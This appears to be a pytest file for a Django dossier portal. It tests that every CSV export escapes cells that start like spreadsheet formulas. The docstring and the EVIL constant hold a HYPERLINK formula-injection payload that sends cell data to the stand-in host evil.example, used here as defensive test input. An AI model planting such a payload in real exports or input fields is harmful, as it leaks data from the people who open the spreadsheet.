"""Every CSV the portal writes neutralises spreadsheet formulas, through one helper
(``core.csvfiles``; issue 23, item 3).

Reproduction: an organisation named ``=HYPERLINK("http://evil.example/?d="&A2&B2,"Mo ho so")``
was exported unescaped in the "Người nộp" cell of the officers' CSV, which Excel opens (BOM).
"""

import csv
import io

import pytest
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone

from core.csvfiles import safe_cell, writer
from dossiers.tests.factories import AgencyFactory, DossierFactory, DossierProcedureFactory, officer

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?d="&A2&B2,"Mo ho so")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_text_starting_like_a_formula_gets_an_apostrophe(start):
    assert safe_cell(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("value", ["Nguyễn Thị Hoa", "1.005095", "", 42, -3, 2.5, None, "a=b", "Công ty - chi nhánh"])
def test_ordinary_cells_are_written_as_they_are(value):
    assert safe_cell(value) == value


def test_the_writer_neutralises_every_cell_of_every_row():
    out = io.StringIO()
    w = writer(out)
    w.writerow(["=1", "ok"])
    w.writerows([["@SUM(A1)", 5], ["+1", "-2"]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["'=1", "ok"], ["'@SUM(A1)", "5"], ["'+1", "'-2"]]


def test_the_admin_export_neutralises_an_applicant_named_like_a_formula(client):
    procedure = DossierProcedureFactory()
    dossier = DossierFactory(procedure=procedure, sent=True, applicant_name=EVIL)
    client.force_login(officer(procedure.agency))
    response = client.post(
        reverse("admin:dossiers_dossier_changelist"), {"action": "export_csv", "_selected_action": [dossier.pk]}
    )
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    applicant = rows[0].index("Người nộp")
    assert rows[1][applicant] == "'" + EVIL


@pytest.fixture
def agency_named_like_a_formula():
    agency = AgencyFactory(code="CSV-X", name=EVIL)
    DossierFactory(procedure=DossierProcedureFactory(agency=agency), received=True, received_at=timezone.now())
    return agency


def test_dossier_stats_neutralises_an_agency_named_like_a_formula(agency_named_like_a_formula):
    out = io.StringIO()
    today = timezone.localdate()
    call_command("dossier_stats", "--from", f"{today:%Y-%m-01}", "--to", f"{today:%Y-%m-%d}", stdout=out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert {r["agency_name"] for r in rows if r["agency_code"] == "CSV-X"} == {"'" + EVIL}


def test_the_public_statistics_csv_neutralises_an_agency_named_like_a_formula(client, agency_named_like_a_formula):
    month = f"{timezone.localdate():%Y-%m}"
    response = client.get(reverse("lookup:statistics_csv"), {"from": month, "to": month, "view": "agency"})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert next(row for row in rows if row[0] == "CSV-X")[:2] == ["CSV-X", "'" + EVIL]


def test_no_module_writes_csv_without_the_helper():
    """One way to write a CSV: a new ``csv.writer`` elsewhere would bypass the neutralisation."""
    from pathlib import Path

    from django.conf import settings

    root = Path(settings.BASE_DIR)
    offenders = [
        str(path.relative_to(root))
        for app in ("accounts", "core", "dossiers", "lookup", "portal", "procedures")
        for path in (root / app).rglob("*.py")
        if "/tests/" not in str(path)
        and path.name != "csvfiles.py"
        and ("csv.writer(" in path.read_text() or "csv.DictWriter(" in path.read_text())
    ]
    assert offenders == []


def test_the_catalogue_export_neutralises_and_its_import_reads_the_text_back():
    from procedures.importing import export_csv, read_csv

    DossierProcedureFactory(code="9.999999", name="-Thủ tục lạ", description="- Bước 1: nộp đơn\n- Bước 2")
    text = export_csv()
    assert "'-Thủ tục lạ" in text
    (row,) = [values for _line, values in read_csv(text).procedures if values["code"] == "9.999999"]
    assert row["name"] == "-Thủ tục lạ"
    assert row["description"] == "- Bước 1: nộp đơn\n- Bước 2"
